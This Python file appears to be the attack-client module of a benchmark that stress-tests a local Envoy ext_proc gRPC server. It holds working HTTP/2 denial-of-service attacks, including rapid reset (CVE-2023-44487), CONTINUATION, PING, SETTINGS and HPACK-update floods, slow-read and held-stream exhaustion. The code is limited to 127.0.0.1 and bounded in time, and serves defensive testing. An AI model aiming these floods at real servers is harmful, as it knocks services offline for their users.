"""The attack clients of ``bench/h2_attacks.py``: raw HTTP/2 frames on plain sockets, to 127.0.0.1.

Each attack is a function over a :class:`Budget` (a deadline and a frame count: every loop stops by
itself) that opens :class:`Wire` connections to the ext_proc port and writes frames built here.
Run as a program (``python bench/_h2_attack_clients.py NAME --port P --duration S --stats FILE``) it
runs one attack and writes what it sent and received as JSON.
"""

from __future__ import annotations

import argparse
import json
import selectors
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADER = struct.Struct(">HBBBL")  # length (24 bits as 16 + 8), type, flags, stream id
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_INITIAL_WINDOW, SETTINGS_MAX_FRAME = 0x4, 0x5
CANCEL = 0x8
DEFAULT_WINDOW = 65_535
DEFAULT_MAX_FRAME = 16_384
MAX_STREAM_ID = (1 << 31) - 1
SERVICE_PATH = b"/envoy.service.ext_proc.v3.ExternalProcessor/Process"
HOST = "127.0.0.1"  # the only address an attack ever connects to
BATCH = 8192  # frames per write of the floods (about 72-140 KB)


# ------------------------------------------------------------------------------------------ frames


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return _HEADER.pack(n >> 8, n & 0xFF, kind, flags, stream_id) + payload


def settings(values: dict[int, int] | None = None) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HL", k, v) for k, v in (values or {}).items()))


def rst_stream(stream_id: int, code: int = CANCEL) -> bytes:
    return frame(RST_STREAM, 0, stream_id, struct.pack(">L", code))


def ping(opaque: int) -> bytes:
    return frame(PING, 0, 0, struct.pack(">Q", opaque))


def request_fields() -> list[tuple[bytes, bytes]]:
    """The header fields of an ext_proc gRPC call, as Envoy sends them."""
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", SERVICE_PATH),
        (b":authority", b"ext_proc"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]


def indexed_block() -> tuple[bytes, bytes]:
    """(the first request's header block, every later one's): the first one adds the fields to the
    server's dynamic table, the later ones refer to them (a few bytes each)."""
    encoder = Encoder()
    return encoder.encode(request_fields()), encoder.encode(request_fields())


def _hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name: bytes, value: bytes) -> bytes:
    """A literal field without indexing, literal name, no Huffman (RFC 7541 section 6.2.2)."""
    return b"\x00" + _hpack_int(len(name), 7, 0) + name + _hpack_int(len(value), 7, 0) + value


def literal_block(extra: Sequence[tuple[bytes, bytes]] = ()) -> bytes:
    """The request's fields as literals only: valid whatever the dynamic table holds."""
    return b"".join(literal(n, v) for n, v in [*request_fields(), *extra])


def table_size_updates(count: int, size: int = 0) -> bytes:
    """``count`` dynamic table size updates (RFC 7541 section 6.3) to ``size``."""
    return _hpack_int(size, 5, 0x20) * count


def header_frames(stream_id: int, block: bytes, max_frame: int, *, end_stream: bool) -> bytes:
    """HEADERS (+ CONTINUATION) carrying ``block`` in frames of at most ``max_frame`` bytes."""
    pieces = [block[i : i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, piece in enumerate(pieces):
        flags = END_HEADERS if i == len(pieces) - 1 else 0
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, piece))
        else:
            out.append(frame(CONTINUATION, flags, stream_id, piece))
    return b"".join(out)


def grpc_message(payload: bytes) -> bytes:
    """One length-prefixed gRPC message (not compressed)."""
    return struct.pack(">BL", 0, len(payload)) + payload


def processing_headers(*, end_of_stream: bool) -> bytes:
    """A serialized ext_proc ProcessingRequest carrying the request headers of a chat completion."""
    from envoy.config.core.v3.base_pb2 import HeaderMap, HeaderValue
    from envoy.service.ext_proc.v3 import external_processor_pb2 as ep

    headers = [
        (":method", b"POST"),
        (":path", b"/v1/chat/completions"),
        (":authority", b"bench"),
        ("content-type", b"application/json"),
        ("x-request-id", b"h2-attack"),
    ]
    message = ep.ProcessingRequest(
        request_headers=ep.HttpHeaders(
            headers=HeaderMap(headers=[HeaderValue(key=k, raw_value=v) for k, v in headers]),
            end_of_stream=end_of_stream,
        )
    )
    return bytes(message.SerializeToString())


def processing_body(size: int) -> bytes:
    """A serialized ProcessingRequest carrying a request body of ``size`` bytes."""
    from envoy.service.ext_proc.v3 import external_processor_pb2 as ep

    body = b'{"model":"demo","messages":[{"role":"user","content":"' + b"x" * size + b'"}]}'
    message = ep.ProcessingRequest(request_body=ep.HttpBody(body=body, end_of_stream=True))
    return bytes(message.SerializeToString())


def one_byte_data(stream_id: int, data: bytes) -> bytes:
    """``data`` as DATA frames of one byte each (no END_STREAM)."""
    head = _HEADER.pack(0, 1, DATA, 0, stream_id)
    return b"".join(head + data[i : i + 1] for i in range(len(data)))


def one_byte_continuations(stream_id: int, data: bytes, *, last: bool) -> bytes:
    """``data`` as CONTINUATION frames of one byte each; the last ends the block when ``last``."""
    head = _HEADER.pack(0, 1, CONTINUATION, 0, stream_id)
    out = [head + data[i : i + 1] for i in range(len(data))]
    if last and out:
        out[-1] = _HEADER.pack(0, 1, CONTINUATION, END_HEADERS, stream_id) + data[-1:]
    return b"".join(out)


# ------------------------------------------------------------------------------------- connection


@dataclass
class Budget:
    """The bounds of one attack run: stop at ``deadline`` (monotonic) or after ``max_frames``."""

    deadline: float
    max_frames: int
    max_connections: int = 2000
    connect_interval: float = 0.0  # at least this between two connections: they last the duration
    last_connect: float = 0.0
    frames: int = 0
    bytes: int = 0
    streams: int = 0
    connections: int = 0
    received: Counter[str] = field(default_factory=Counter)
    goaway_codes: Counter[int] = field(default_factory=Counter)
    rst_codes: Counter[int] = field(default_factory=Counter)
    notes: list[str] = field(default_factory=list)

    def more(self) -> bool:
        return self.frames < self.max_frames and time.monotonic() < self.deadline

    def spent(self, frames: int, streams: int = 0) -> None:
        self.frames += frames
        self.streams += streams


class Wire:
    """One client connection (non-blocking): writes queued bytes while the deadline allows, and
    (when ``read``) reads and parses what the server sends (settings, windows, GOAWAY, resets)."""

    def __init__(
        self,
        port: int,
        budget: Budget,
        *,
        read: bool = True,
        client_settings: dict[int, int] | None = None,
        rcvbuf: int = 0,
    ) -> None:
        self.budget = budget
        self.read = read
        self.closed = False
        self.max_frame = DEFAULT_MAX_FRAME
        self.max_streams = 1 << 31
        self.conn_window = DEFAULT_WINDOW  # what the server lets this client send
        self.initial_window = DEFAULT_WINDOW
        self.stream_windows: dict[int, int] = {}
        self._out = bytearray()
        self._in = bytearray()
        self._got_settings = False
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(5.0)
        sock.connect((HOST, port))
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = sock
        self._sel = selectors.DefaultSelector()
        self._sel.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        budget.connections += 1
        self.queue(PREFACE + settings(client_settings))
        self._handshake()

    def _handshake(self) -> None:
        """Write the preface, read the server's SETTINGS (at most 2 s), acknowledge them."""
        until = min(self.budget.deadline, time.monotonic() + 2.0)
        while not self._got_settings and not self.closed and time.monotonic() < until:
            self._pump(until, reading=True, done=lambda: self._got_settings)
        if self._got_settings:
            self.queue(frame(SETTINGS, ACK, 0))

    def queue(self, data: bytes) -> None:
        self._out += data
        self.budget.bytes += len(data)

    @property
    def backlog(self) -> int:
        return len(self._out)

    def flush(self, until: float | None = None) -> bool:
        """Write the queued bytes (reading meanwhile when ``read``); False when the connection
        closed. Returns early at ``until`` (default: the budget's deadline) with bytes left."""
        until = self.budget.deadline if until is None else min(until, self.budget.deadline)
        self._pump(until, self.read, done=lambda: not self._out)
        return not self.closed

    def wait(self, seconds: float) -> bool:
        """Keep the connection (reading when ``read``) for ``seconds`` or until the deadline."""
        until = min(time.monotonic() + seconds, self.budget.deadline)
        while not self.closed and time.monotonic() < until:
            self._pump(until, self.read, done=lambda: False)
        return not self.closed

    def _pump(self, until: float, reading: bool, done: Callable[[], bool]) -> None:
        """Write and read (when ``reading``) until ``done()``, the connection closes or ``until``."""
        while not self.closed:
            if done():
                return
            left = until - time.monotonic()
            if left <= 0:
                return
            events = selectors.EVENT_WRITE if self._out else 0
            if reading:
                events |= selectors.EVENT_READ
            if not events:
                time.sleep(min(left, 0.05))
                continue
            self._sel.modify(self.sock, events)
            for _, mask in self._sel.select(min(left, 0.1)):
                if mask & selectors.EVENT_READ:
                    self._receive()
                if mask & selectors.EVENT_WRITE and self._out:
                    self._send()

    def _send(self) -> None:
        try:
            n = self.sock.send(self._out)
        except BlockingIOError:
            return
        except OSError:
            self.close()
            return
        del self._out[:n]

    def _receive(self) -> None:
        try:
            data = self.sock.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError:
            self.close()
            return
        if not data:
            self.close()
            return
        self._in += data
        self._parse()

    def _parse(self) -> None:
        buf = self._in
        pos = 0
        budget = self.budget
        while len(buf) - pos >= 9:
            hi, lo, kind, flags, sid = _HEADER.unpack_from(buf, pos)
            length = (hi << 8) | lo
            if len(buf) - pos - 9 < length:
                break
            payload = bytes(buf[pos + 9 : pos + 9 + length])
            pos += 9 + length
            sid &= MAX_STREAM_ID
            budget.received[_KIND_NAMES.get(kind, str(kind))] += 1
            if kind == SETTINGS and not flags & ACK:
                self._settings(payload)
            elif kind == WINDOW_UPDATE and length == 4:
                increment = struct.unpack(">L", payload)[0] & MAX_STREAM_ID
                if sid == 0:
                    self.conn_window += increment
                elif sid in self.stream_windows:
                    self.stream_windows[sid] += increment
            elif kind == GOAWAY and length >= 8:
                budget.goaway_codes[struct.unpack(">L", payload[4:8])[0]] += 1
            elif kind == RST_STREAM and length == 4:
                budget.rst_codes[struct.unpack(">L", payload)[0]] += 1
                self.stream_windows.pop(sid, None)
        del buf[:pos]

    def _settings(self, payload: bytes) -> None:
        self._got_settings = True
        for i in range(0, len(payload) - 5, 6):
            key, value = struct.unpack_from(">HL", payload, i)
            if key == SETTINGS_MAX_FRAME:
                self.max_frame = value
            elif key == 0x3:
                self.max_streams = value
            elif key == SETTINGS_INITIAL_WINDOW:
                delta = value - self.initial_window
                self.initial_window = value
                for sid in self.stream_windows:
                    self.stream_windows[sid] += delta

    def open_stream(self, sid: int) -> None:
        self.stream_windows[sid] = self.initial_window

    def window(self, sid: int) -> int:
        """How many DATA bytes the server lets this client send on ``sid`` now."""
        return min(self.conn_window, self.stream_windows.get(sid, 0))

    def consume(self, sid: int, n: int) -> None:
        self.conn_window -= n
        if sid in self.stream_windows:
            self.stream_windows[sid] -= n

    def close(self) -> None:
        if not self.closed:
            self.closed = True
            self._sel.close()
            self.sock.close()


_KIND_NAMES = {
    0: "DATA",
    1: "HEADERS",
    3: "RST_STREAM",
    4: "SETTINGS",
    6: "PING",
    7: "GOAWAY",
    8: "WINDOW_UPDATE",
    9: "CONTINUATION",
}


def _reconnect(budget: Budget, port: int, **options: object) -> Wire | None:
    """A new connection, or None when the budget is spent or the server refuses (after a pause)."""
    while budget.more() and budget.connections < budget.max_connections:
        wait = budget.last_connect + budget.connect_interval - time.monotonic()
        if wait > 0:
            time.sleep(min(wait, max(budget.deadline - time.monotonic(), 0.0)))
            continue
        budget.last_connect = time.monotonic()
        try:
            return Wire(port, budget, **options)  # type: ignore[arg-type]
        except OSError as e:
            budget.notes.append(f"connect failed: {e}")
            time.sleep(0.2)
    return None


Batches = Iterator[tuple[bytes, int]]


def _flood(port: int, budget: Budget, batches: Callable[[Wire], Batches], **options: object) -> None:
    """Write the (bytes, frames) batches of ``batches(wire)`` on a connection, on a new one (whose
    batches start over) each time the server closes it, until the budget is spent."""
    wire = _reconnect(budget, port, **options)
    while wire is not None and budget.more():
        for data, frames in batches(wire):
            wire.queue(data)
            budget.spent(frames)
            if not budget.more() or not wire.flush():
                break
        wire.close()
        wire = _reconnect(budget, port, **options) if budget.more() else None


# ----------------------------------------------------------------------------------------- attacks


class _Streams:
    """Client stream ids of one connection: odd, increasing."""

    def __init__(self) -> None:
        self.next = 1

    def take(self) -> int:
        sid = self.next
        self.next += 2
        return sid

    @property
    def exhausted(self) -> bool:
        return self.next > MAX_STREAM_ID - 2


def continuation_empty(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """A header block that never ends: HEADERS without END_HEADERS, then empty CONTINUATION frames."""
    first, _ = indexed_block()
    empty = frame(CONTINUATION, 0, 1) * BATCH

    def batches(wire: Wire) -> Batches:
        budget.streams += 1
        yield frame(HEADERS, 0, 1, first), 1
        while True:
            yield empty, BATCH

    _flood(port, budget, batches)


def continuation_1byte(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """Header blocks of one ``--pad-bytes`` field (valid HPACK) sent one byte per CONTINUATION."""
    block = literal_block([(b"x-pad", b"a" * options.pad_bytes)])

    def batches(wire: Wire) -> Batches:
        streams = _Streams()
        while not streams.exhausted:
            sid = streams.take()
            budget.streams += 1
            yield frame(HEADERS, END_STREAM, sid, block[:1]), 1
            for at in range(1, len(block), BATCH):
                chunk = block[at : at + BATCH]
                yield one_byte_continuations(sid, chunk, last=at + BATCH >= len(block)), len(chunk)

    _flood(port, budget, batches)


def rapid_reset(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """CVE-2023-44487: HEADERS opening a stream, at once RST_STREAM(CANCEL), over and over."""
    first, later = indexed_block()

    def batches(wire: Wire) -> Batches:
        streams = _Streams()
        while not streams.exhausted:  # then a new connection starts over at stream 1
            out = []
            for _ in range(BATCH // 2):
                sid = streams.take()
                out.append(frame(HEADERS, END_HEADERS, sid, first if sid == 1 else later) + rst_stream(sid))
            budget.streams += len(out)
            yield b"".join(out), 2 * len(out)

    _flood(port, budget, batches)


def _requests(streams: _Streams, count: int, message: bytes, first: bytes, later: bytes) -> bytes:
    """``count`` new streams, each HEADERS then one DATA frame carrying ``message`` (ended)."""
    out = []
    for _ in range(count):
        sid = streams.take()
        out.append(frame(HEADERS, END_HEADERS, sid, first if sid == 1 else later))
        out.append(frame(DATA, END_STREAM, sid, message))
    return b"".join(out)


def slow_read(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """A client that grants no window (SETTINGS_INITIAL_WINDOW_SIZE 0) and never reads its socket,
    while it keeps sending complete requests whose replies the server must hold."""
    first, later = indexed_block()
    message = grpc_message(processing_headers(end_of_stream=True))
    per_batch = 256

    def batches(wire: Wire) -> Batches:
        streams = _Streams()
        while not streams.exhausted:
            budget.streams += per_batch
            yield _requests(streams, per_batch, message, first, later), 2 * per_batch

    _flood(port, budget, batches, read=False, client_settings={SETTINGS_INITIAL_WINDOW: 0}, rcvbuf=4096)


def data_1byte(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """gRPC messages of ``--message-bytes`` sent one byte per DATA frame, on ``--parallel`` streams
    at once (round-robin), within the windows the server grants."""
    message = grpc_message(processing_body(options.message_bytes))
    parallel = options.parallel
    wire = _reconnect(budget, port)
    streams = _Streams()
    active: dict[int, int] = {}  # stream id -> bytes of its message sent
    first, later = indexed_block()
    per_stream = max(BATCH // parallel, 1)
    while wire is not None and budget.more():
        out = []
        frames = 0
        while len(active) < parallel and not streams.exhausted:
            sid = streams.take()
            out.append(frame(HEADERS, END_HEADERS, sid, first if sid == 1 else later))
            wire.open_stream(sid)
            active[sid] = 0
            frames += 1
            budget.streams += 1
        for sid, sent in list(active.items()):
            n = min(per_stream, len(message) - sent, wire.window(sid))
            if n > 0:
                out.append(one_byte_data(sid, message[sent : sent + n]))
                wire.consume(sid, n)
                frames += n
                sent += n
            if sent >= len(message):
                out.append(frame(DATA, END_STREAM, sid))
                del active[sid]
            else:
                active[sid] = sent
        wire.queue(b"".join(out))
        budget.spent(frames)
        ok = wire.flush()
        if ok and frames == 0:
            ok = wire.wait(0.05)  # no window: wait for the server's WINDOW_UPDATE
        if not ok:
            wire = _reconnect(budget, port)
            streams, active = _Streams(), {}
    if wire is not None:
        wire.close()


def streams_held(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """``--streams`` streams over ``--connections`` connections, each with a request-headers message
    and never ended, held open until the deadline (as many as the server takes in that time)."""
    first, later = indexed_block()
    message = grpc_message(processing_headers(end_of_stream=False))
    target = options.streams
    per_connection = min(100_000, -(-target // options.connections))
    wires: list[Wire] = []
    for _ in range(options.connections):
        wire = _reconnect(budget, port)
        if wire is not None:
            wires.append(wire)
    ids = [_Streams() for _ in wires]
    counts = [0] * len(wires)
    step = 256
    while budget.more() and budget.streams < target:
        progress = False
        for i, wire in enumerate(wires):
            if wire.closed or counts[i] >= per_connection:
                continue
            out = []
            for _ in range(min(step, per_connection - counts[i], target - budget.streams)):
                if wire.conn_window < len(message):
                    break
                sid = ids[i].take()
                wire.open_stream(sid)
                out.append(frame(HEADERS, END_HEADERS, sid, first if sid == 1 else later))
                out.append(frame(DATA, 0, sid, message))
                wire.consume(sid, len(message))
                counts[i] += 1
                budget.spent(2, 1)
            if out:
                progress = True
                wire.queue(b"".join(out))
            wire.flush(time.monotonic() + 0.5)
        if not progress:
            if all(w.closed for w in wires):
                break
            for wire in wires:
                wire.wait(0.02)  # windows: wait for updates
    budget.notes.append(f"{budget.streams} streams opened on {len(wires)} connections")
    while budget.more() and not all(w.closed for w in wires):  # hold them
        for wire in wires:
            wire.wait(0.1)
    budget.notes.append(f"{sum(not w.closed for w in wires)} connections still open at the end")
    for wire in wires:
        wire.close()


def ping_flood(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """PING frames the server must acknowledge, from a client that never reads its socket."""
    pings = b"".join(ping(i) for i in range(BATCH))
    _flood(port, budget, lambda wire: _forever(pings, BATCH), read=False, rcvbuf=4096)


def settings_flood(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """SETTINGS frames the server must acknowledge, from a client that never reads its socket."""
    frames = settings({SETTINGS_INITIAL_WINDOW: DEFAULT_WINDOW}) * BATCH
    _flood(port, budget, lambda wire: _forever(frames, BATCH), read=False, rcvbuf=4096)


def _forever(data: bytes, frames: int) -> Batches:
    while True:
        yield data, frames


def empty_data(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """Empty DATA frames (no END_STREAM) on an open stream: frames that cost work and carry nothing;
    a new stream every 16 batches."""
    first, later = indexed_block()

    def batches(wire: Wire) -> Batches:
        streams = _Streams()
        while not streams.exhausted:
            sid = streams.take()
            budget.streams += 1
            yield frame(HEADERS, END_HEADERS, sid, first if sid == 1 else later), 1
            empty = frame(DATA, 0, sid) * BATCH
            for _ in range(16):
                yield empty, BATCH

    _flood(port, budget, batches)


def _hpack_updates(port: int, budget: Budget, block_bytes: int) -> None:
    """Header blocks of ``block_bytes``: dynamic table size updates, then the request's fields (in
    frames of the server's SETTINGS_MAX_FRAME_SIZE), one stream each."""
    fields = literal_block()
    block = table_size_updates(block_bytes - len(fields)) + fields
    count = max(1, (256 << 10) // block_bytes)  # blocks per write: about 256 KB

    def batches(wire: Wire) -> Batches:
        streams = _Streams()
        frames = count * -(-block_bytes // wire.max_frame)
        while not streams.exhausted:
            out = [
                header_frames(streams.take(), block, wire.max_frame, end_stream=True) for _ in range(count)
            ]
            budget.streams += count
            yield b"".join(out), frames

    _flood(port, budget, batches)


def hpack_updates_16k(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """HPACK dynamic table size updates filling 16 KiB header blocks."""
    _hpack_updates(port, budget, 16 << 10)


def hpack_updates_1m(port: int, budget: Budget, options: argparse.Namespace) -> None:
    """HPACK dynamic table size updates filling 1 MiB header blocks."""
    _hpack_updates(port, budget, 1 << 20)


Attack = Callable[[int, Budget, argparse.Namespace], None]
# name -> (attack, the row label of the table)
ATTACKS: dict[str, tuple[Attack, str]] = {
    "continuation-empty": (continuation_empty, "CONTINUATION flood of empty frames"),
    "continuation-1byte": (continuation_1byte, "CONTINUATION, 1-byte frames"),
    "rapid-reset": (rapid_reset, "rapid reset (CVE-2023-44487)"),
    "slow-read": (slow_read, "slow read, zero window"),
    "data-1byte": (data_1byte, "a gRPC message in 1-byte DATA frames"),
    "streams-held": (streams_held, "streams held, with a message"),
    "ping-flood": (ping_flood, "PING flood, never read"),
    "settings-flood": (settings_flood, "SETTINGS flood, never read"),
    "empty-data": (empty_data, "empty DATA flood"),
    "hpack-updates-16k": (hpack_updates_16k, "HPACK table-size updates, 16 KiB blocks"),
    "hpack-updates-1m": (hpack_updates_1m, "HPACK table-size updates, 1 MiB blocks"),
}


def run(name: str, port: int, options: argparse.Namespace) -> Budget:
    budget = Budget(time.monotonic() + options.duration, options.max_frames)
    budget.connect_interval = options.duration / budget.max_connections
    start = time.monotonic()
    try:
        ATTACKS[name][0](port, budget, options)
    except OSError as e:  # the server went away: the attack ends, what it did is reported
        budget.notes.append(f"stopped by {type(e).__name__}: {e}")
    budget.notes.append(f"ran {time.monotonic() - start:.1f} s")
    return budget


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="One HTTP/2 attack on 127.0.0.1 (bench/h2_attacks.py)")
    add = parser.add_argument
    add("attack", choices=list(ATTACKS))
    add("--port", type=int, required=True)
    add("--duration", type=float, default=15.0, help="seconds (default 15)")
    add("--max-frames", type=int, default=1_000_000_000, help="frames at most (default 1e9)")
    add("--streams", type=int, default=400_000, help="streams-held: streams to open (default 400000)")
    add("--connections", type=int, default=4, help="streams-held: connections (default 4)")
    add("--message-bytes", type=int, default=4 << 20, help="data-1byte: body per message (4 MiB)")
    add("--parallel", type=int, default=32, help="data-1byte: streams at once (default 32)")
    add("--pad-bytes", type=int, default=1 << 20, help="continuation-1byte: header value (1 MiB)")
    add("--stats", type=Path, help="write what was sent and received here (JSON)")
    options = parser.parse_args(argv)
    if not 0 < options.duration <= 600:
        parser.error("--duration must be within (0, 600] seconds")
    budget = run(options.attack, options.port, options)
    stats = {
        "attack": options.attack,
        "frames": budget.frames,
        "bytes": budget.bytes,
        "streams": budget.streams,
        "connections": budget.connections,
        "received": dict(budget.received),
        "goaway_codes": {str(k): v for k, v in budget.goaway_codes.items()},
        "rst_codes": {str(k): v for k, v in budget.rst_codes.items()},
        "notes": budget.notes[-5:],
    }
    text = json.dumps(stats)
    if options.stats:
        options.stats.write_text(text)
    print(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
